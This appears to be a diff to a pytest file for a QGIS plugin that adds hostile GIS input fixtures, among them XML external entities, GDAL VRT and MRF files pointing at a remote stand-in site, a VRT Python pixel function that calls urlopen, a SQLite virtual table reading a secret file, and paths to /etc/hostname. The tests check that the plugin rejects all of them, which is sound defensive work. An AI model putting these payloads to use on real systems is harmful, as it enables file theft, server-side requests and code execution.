@@ -2,18 +2,20 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
+import sqlite3
 import zipfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
-from osgeo import gdal
-from qgis.core import QgsProcessingException, QgsVectorLayer
+from osgeo import gdal, ogr
+from qgis.core import QgsProcessingException, QgsProject, QgsVectorLayer
 
 from tests.hostile_texts import SITE, Watch, watching
-from wj_risk_plugin.bridge.io.file_formats import check_local
+from wj_risk_plugin.bridge.io.local_files import check_local
 from wj_risk_plugin.core.messages import InputError
 from wj_risk_plugin.gui.district import read_district
 
@@ -94,7 +96,100 @@ def listed_list(folder: Path) -> Path:
     return text("outer.vrt", outer)(folder)
 
 
+def with_schema(folder: Path) -> Path:
+    loads = f'<xs:include schemaLocation="{SITE}/schema.xsd"/>'
+    text("shelters.xsd", f'<xs:schema xmlns:xs="x">{loads}</xs:schema>')(folder)
+    return text("shelters.gml", COLLECTION.format(declared=""))(folder)
+
+
+def pointer_in_archive(folder: Path) -> Path:
+    path = folder / "shelters.zip"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("dem.tif", POINTER.format(site=SITE, folder=folder))
+    return path
+
+
+def virtual_table(folder: Path) -> Path:
+    """A view of another file's lines, as a layer."""
+    (folder / "secret.txt").write_text("secret\nTOPSECRET\n")
+    path = folder / "shelters.sqlite"
+    made = ogr.GetDriverByName("SQLite").CreateDataSource(str(path))
+    made.CreateLayer("shelters", None, ogr.wkbPoint)
+    made = None
+    with sqlite3.connect(path) as connection:
+        connection.execute("PRAGMA writable_schema = ON")
+        create = f"CREATE VIRTUAL TABLE v USING VirtualText(''{folder}/secret.txt'',''UTF-8'',1)"
+        connection.execute(
+            f"INSERT INTO sqlite_master VALUES('table','v','v',0,'{create}')"  # nosec B608
+        )
+    connection.close()
+    return path
+
+
+def schema_as_list(source: str, query: str = "") -> str:
+    return (
+        '<OGRVRTDataSource><OGRVRTLayer name="shelters"><SrcDataSource>'
+        f"{source}</SrcDataSource>{query}</OGRVRTLayer></OGRVRTDataSource>"
+    )
+
+
+#: Writes and reads what it names, under the name of a raster.
+POINTER = (
+    "<MRF_META><CachedSource><Source>/vsicurl/{site}/source.tif</Source></CachedSource><Raster>"
+    '<Size x="512" y="512" c="1"/><DataFile>{folder}/startup.py</DataFile>'
+    "<IndexFile>/vsicurl/{site}/index</IndexFile></Raster></MRF_META>"
+)
+COLLECTION = (
+    '<?xml version="1.0"?>{declared}<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
+    'xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><ogr:shelters fid="s.0">'
+    "<ogr:geometryProperty><gml:Point><gml:coordinates>113.5,24.8</gml:coordinates></gml:Point>"
+    "</ogr:geometryProperty></ogr:shelters></gml:featureMember></ogr:FeatureCollection>"
+)
+ENTITIES = f'<!DOCTYPE x SYSTEM "{SITE}/x.dtd" [<!ENTITY e SYSTEM "{SITE}/entity">]>'
+OF_SURVEYORS = (
+    f'<?xml version="1.0"?>{ENTITIES}<AX_Bestandsdatenauszug xmlns:gml="http://www.opengis.net/gml'
+    '/3.2"><!-- NAS-Operationen AAA-Fachschema --><n>&e;</n></AX_Bestandsdatenauszug>'
+)
+FEATURES_SERVICE = (
+    '<wfs:WFS_Capabilities version="1.1.0" xmlns:wfs="http://www.opengis.net/wfs" '
+    'xmlns:ows="http://www.opengis.net/ows" xmlns:xlink="http://www.w3.org/1999/xlink">'
+    '<ows:OperationsMetadata><ows:Operation name="GetCapabilities"><ows:DCP><ows:HTTP>'
+    f'<ows:Get xlink:href="{SITE}/wfs?"/></ows:HTTP></ows:DCP></ows:Operation>'
+    "</ows:OperationsMetadata></wfs:WFS_Capabilities>"
+)
+OVERLAY = (
+    '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><GroundOverlay><Icon>'
+    f"<href>{SITE}/overlay.png</href></Icon><LatLonBox><north>25</north><south>24</south>"
+    "<east>114</east><west>113</west></LatLonBox></GroundOverlay></kml>"
+)
+NESTED = "&lt;OGRVRTDataSource&gt;&amp;#47;vsicurl/{site}/nested&lt;/OGRVRTDataSource&gt;"
+GEOCODE = (
+    "<SrcSQL dialect=\"SQLITE\">SELECT ogr_geocode('x','name','QUERY_TEMPLATE='||char(104))"
+    "</SrcSQL>"
+)
+PROCESS = f'{{"process":"{SITE}/process","inputs":{{"data":{{"collection":"{SITE}/all"}}}}}}'
+
 VECTORS = {
+    "a pointer as a table": text("shelters.csv", POINTER.format(site=SITE, folder="/nowhere")),
+    "entities as a GeoJSON": text("shelters.geojson", OF_SURVEYORS),
+    "entities of surveyors": text("shelters.gml", OF_SURVEYORS),
+    "entities of a collection": text("shelters.gml", COLLECTION.format(declared=ENTITIES)),
+    "entities in Interlis": text("shelters.xtf", f"{ENTITIES}<TRANSFER xmlns='interlis.ch'/>"),
+    "a service as a GML": text("shelters.gml", FEATURES_SERVICE),
+    "a service as a GeoJSON": text("shelters.geojson", FEATURES_SERVICE),
+    "a process": text("shelters.moaw", PROCESS),
+    "a picture elsewhere": text("shelters.kml", OVERLAY),
+    "a schema": with_schema,
+    "a list in a list": text("shelters.vrt", schema_as_list(NESTED.format(site=SITE))),
+    "a list in an archive": text("shelters.vrt", schema_as_list("/vsizip/{x.dat}/in.vrt")),
+    "a list of a server": text("shelters.vrt", schema_as_list("PG:host=127.0.0.1 port=9")),
+    "a list on a share": text("shelters.vrt", schema_as_list("\\\\127.0.0.1\\share\\a.shp")),
+    "a list with a query": text("shelters.vrt", schema_as_list("a.csv", GEOCODE)),
+    "a path as a system": text(
+        "shelters.geojson", geojson({"type": "name", "properties": {"name": "/etc/hostname"}})
+    ),
+    "a pointer in an archive": pointer_in_archive,
+    "lines of another file": virtual_table,
     "a link": text("shelters.geojson", geojson(LINK)),
     "an address": text("shelters.geojson", geojson({"type": "url", "properties": {"url": SITE}})),
     "a link in a shape": text("shelters.geojson", geojson(crs_of_shape=LINK)),
@@ -109,7 +204,43 @@ VECTORS = {
     "an archive": in_archive,
 }
 
+BAND = (
+    '<VRTDataset rasterXSize="4" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1"{more}>'
+    "{source}</VRTRasterBand></VRTDataset>"
+)
+IMAGE = (
+    '<?xml version="1.0"?><Product_Observational xmlns="http://pds.nasa.gov/pds4/pds/v1">'
+    "<File_Area_Observational><File><file_name>../secret.csv</file_name></File>"
+    "</File_Area_Observational></Product_Observational>"
+)
+INLINE = SERVICE.format(site=SITE).replace("://", "&amp;#58;//").replace("<", "&lt;")
+PYTHON = (
+    "<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python</PixelFunctionLanguage>"
+    "<PixelFunctionCode>import urllib.request; urllib.request.urlopen('{site}/python')"
+    "</PixelFunctionCode>"
+)
+
 RASTERS = {
+    "a pointer": text("dem.tif", POINTER.format(site=SITE, folder="/nowhere")),
+    "a service in a list": text(
+        "dem.vrt",
+        BAND.format(
+            more="",
+            source=f"<SimpleSource><SourceFilename>{INLINE}</SourceFilename></SimpleSource>",
+        ),
+    ),
+    "bytes of a file": text(
+        "dem.vrt",
+        BAND.format(
+            more=' subClass="VRTRawRasterBand"',
+            source="<SourceFilename>/etc/hostname</SourceFilename>",
+        ),
+    ),
+    "a program": text(
+        "dem.vrt",
+        BAND.format(more=' subClass="VRTDerivedRasterBand"', source=PYTHON.format(site=SITE)),
+    ),
+    "an image of a table": text("dem.xml", IMAGE),
     "rasters": text("dem.tif", LIST_OF_RASTERS.format(site=SITE)),
     "rasters as a list": text("dem.vrt", LIST_OF_RASTERS.format(site=SITE)),
     "escaped": text("dem.vrt", LIST_OF_RASTERS.format(site=SITE).replace("/vsi", "&#47;vsi")),
@@ -201,3 +332,57 @@ def test_what_only_looks_like_it_is_read(watch: Watch, tmp_path: Path) -> None:
     )
     assert results["PROBLEMS"] > 0
     assert not watch.all()
+
+
+def test_a_pointer_under_the_name_of_a_raster_writes_nothing(watch: Watch, tmp_path: Path) -> None:
+    import processing
+
+    path = text("elev.tif", POINTER.format(site=SITE, folder=tmp_path))(tmp_path)
+    points = text("shelters.geojson", geojson())(tmp_path)
+    before = sorted(tmp_path.iterdir())
+    for name, inputs in (
+        ("checkdata", {"LAYERS": [str(points)], "OUTPUT_PROBLEMS": "TEMPORARY_OUTPUT"}),
+        ("lookoutcoverage", {"LOOKOUTS": str(points), "OUTPUT_LOOKOUTS": "TEMPORARY_OUTPUT"}),
+    ):
+        with pytest.raises(QgsProcessingException, match="elev"):
+            processing.run(f"wjrisk:{name}", {**inputs, "DEM": str(path)})
+    assert sorted(tmp_path.iterdir()) == before
+    assert not watch.all()
+
+
+def test_a_layer_of_the_project_is_looked_at_by_its_file(
+    watch: Watch, project: QgsProject, tmp_path: Path
+) -> None:
+    import processing
+
+    good = text("shelters.geojson", geojson())(tmp_path)
+    layer = QgsVectorLayer(str(good), "shelters", "ogr")
+    assert layer.isValid()
+    project.addMapLayer(layer)
+    good.write_text(geojson(LINK))  # somebody put another file there
+    for given in (layer, layer.id()):
+        with pytest.raises(QgsProcessingException, match="shelters"):
+            processing.run(
+                "wjrisk:facilitycoverage",
+                {"FACILITIES": given, "OUTPUT_FACILITIES": "TEMPORARY_OUTPUT"},
+            )
+    assert not watch.all()
+
+
+def test_settings_of_others_change_no_file_that_is_read(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    import processing
+
+    path = tmp_path / "shelters.gpkg"
+    gdal.VectorTranslate(
+        str(path), str(text("points.geojson", geojson())(tmp_path)), layerName="shelters"
+    )
+    whole = hashlib.sha256(path.read_bytes()).hexdigest()
+    monkeypatch.setenv("OGR_SQLITE_PRAGMA", "journal_mode=WAL")
+    monkeypatch.setenv("GDAL_VRT_ENABLE_PYTHON", "YES")
+    for inputs in ({"DISTRICT": str(path)}, {"LAYERS": [f"{path}|layername=shelters"]}):
+        processing.run("wjrisk:checkdata", {**inputs, "OUTPUT_PROBLEMS": "TEMPORARY_OUTPUT"})
+    assert hashlib.sha256(path.read_bytes()).hexdigest() == whole
+    assert gdal.GetConfigOption("GDAL_VRT_ENABLE_PYTHON") is None
+    assert not list(tmp_path.glob("*-wal"))
